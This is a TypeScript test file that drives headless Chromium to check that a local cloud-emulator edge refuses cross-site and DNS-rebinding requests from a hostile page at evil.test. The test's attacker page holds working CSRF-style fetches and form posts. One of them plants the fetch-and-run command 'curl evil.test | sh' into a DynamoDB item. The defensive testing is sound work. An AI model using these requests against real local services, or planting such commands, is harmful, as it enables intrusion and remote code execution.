import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser } from 'playwright-core';
import type { EdgeRefusal } from '#local/edge/edge.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BUCKET, ITEM_KEY, TABLE, startEdgeFixture, type EdgeFixture } from './edge-fixture.ts';

const CHROMIUM = '/usr/bin/chromium';

/**
 * The attacker's page: simple (no-preflight) requests, a preflighted JSON request and HTML form
 * posts, each against the edge by its loopback address and by the attacker's own name (what a page
 * that rebound evil.test to 127.0.0.1 would use). It reports what it could observe.
 */
function attackPage(edgePort: number, queueUrl: string): string {
  const targets = [`http://127.0.0.1:${edgePort}`, `http://evil.test:${edgePort}`];
  const form = new URLSearchParams({
    Action: 'SendMessage',
    Version: '2012-11-05',
    QueueUrl: queueUrl,
    MessageBody: 'from a web page',
  }).toString();
  const update = JSON.stringify({
    TableName: TABLE,
    Key: ITEM_KEY,
    UpdateExpression: 'SET command = :c',
    ExpressionAttributeValues: { ':c': { S: 'curl evil.test | sh' } },
  });
  return `<!doctype html><html><body>
<iframe name="sink"></iframe>
${targets
  .map(
    (base, i) => `
<form id="s3-${i}" method="post" action="${base}/${BUCKET}" enctype="multipart/form-data" target="sink">
  <input name="key" value="emails/planted-${i}"><textarea name="file">From: scott@example.com\r\n\r\nrun this</textarea>
</form>
<form id="sqs-${i}" method="post" action="${base}/" enctype="application/x-www-form-urlencoded" target="sink">
  ${[...new URLSearchParams(form)].map(([k, v]) => `<input name="${k}" value="${v}">`).join('')}
</form>`,
  )
  .join('')}
<script>
window.attack = async () => {
  const results = [];
  const targets = ${JSON.stringify(targets)};
  for (const base of targets) {
    for (const [name, init] of [
      ['sqs no-cors', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: ${JSON.stringify(form)} }],
      ['s3 no-cors', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: 'planted' }],
      ['dynamodb cors', { method: 'POST', headers: { 'content-type': 'application/x-amz-json-1.0', 'x-amz-target': 'DynamoDB_20120810.UpdateItem' }, body: ${JSON.stringify(update)} }],
    ]) {
      try {
        const res = await fetch(base + (name.startsWith('s3') ? '/${BUCKET}/planted.eml' : '/'), init);
        results.push(name + ' ' + base + ': ' + res.type + ' ' + res.status);
      } catch (error) {
        results.push(name + ' ' + base + ': refused ' + error.name);
      }
    }
  }
  return results;
};
</script></body></html>`;
}

describe.skipIf(!existsSync(CHROMIUM))('a web page in Chromium cannot drive the edge', () => {
  let edge: EdgeFixture;
  let site: Server;
  let sitePort: number;
  let browser: Browser;

  beforeAll(async () => {
    edge = await startEdgeFixture();
    site = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(attackPage(edge.port, edge.queueUrl));
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    sitePort = (site.address() as AddressInfo).port;
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--host-resolver-rules=MAP evil.test 127.0.0.1',
      ],
    });
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => site?.close(resolve));
    await edge?.stop();
  });

  it('refuses fetches, preflights and form posts from http://evil.test, and nothing is written', async () => {
    const before = await edge.snapshot();
    const page = await browser.newPage();
    const atEdge: { method: string; url: string; status: number }[] = [];
    page.on('response', (response) => {
      if (new URL(response.url()).port === String(edge.port)) {
        atEdge.push({ method: response.request().method(), url: response.url(), status: response.status() });
      }
    });
    await page.goto(`http://evil.test:${sitePort}/`);

    const refused: EdgeRefusal[] = [];
    const unsubscribe = edge.emulators.edge.onRefusal((refusal) => refused.push(refusal));
    const results = (await page.evaluate('window.attack()')) as string[];
    // Opaque answers to no-cors requests, and CORS requests refused at the preflight.
    expect(results.filter((r) => r.startsWith('dynamodb cors'))).toEqual([
      `dynamodb cors http://127.0.0.1:${edge.port}: refused TypeError`,
      `dynamodb cors http://evil.test:${edge.port}: refused TypeError`,
    ]);
    expect(results.filter((r) => r.includes('no-cors')).every((r) => r.endsWith('opaque 0'))).toBe(true);

    // One form post at a time (the next would cancel the frame's navigation): each is refused at the
    // edge and its answer seen by the page before the next is sent, however busy the machine.
    for (const id of ['s3-0', 'sqs-0', 's3-1', 'sqs-1']) {
      const [refusedBefore, seenBefore] = [refused.length, atEdge.length];
      await page.evaluate(`document.getElementById('${id}').submit()`);
      await expect.poll(() => refused.length, { timeout: 60_000 }).toBe(refusedBefore + 1);
      await expect.poll(() => atEdge.length, { timeout: 60_000 }).toBe(seenBefore + 1);
    }

    // Every request reached the edge and was refused there: 6 fetches (2 of them at the CORS
    // preflight), 4 form posts — for the loopback address as a foreign site, and for evil.test.
    unsubscribe();
    expect(atEdge).toHaveLength(8);
    expect(atEdge.every((r) => r.status === 403)).toBe(true);
    expect(refused).toHaveLength(10);
    expect(refused.filter((r) => r.method === 'OPTIONS')).toHaveLength(2);
    const byHost = refused.filter((r) => r.host === `evil.test:${edge.port}`);
    expect(byHost).toHaveLength(5);
    expect(
      byHost.filter((r) => r.method !== 'OPTIONS').every((r) => r.message.includes('DNS-rebinding')),
    ).toBe(true);
    expect(
      refused
        .filter((r) => r.host !== `evil.test:${edge.port}` && r.method !== 'OPTIONS')
        .every((r) => r.origin === `http://evil.test:${sitePort}`),
    ).toBe(true);
    expect(await edge.snapshot()).toEqual(before);
    await page.close();
  }, 90_000);
});
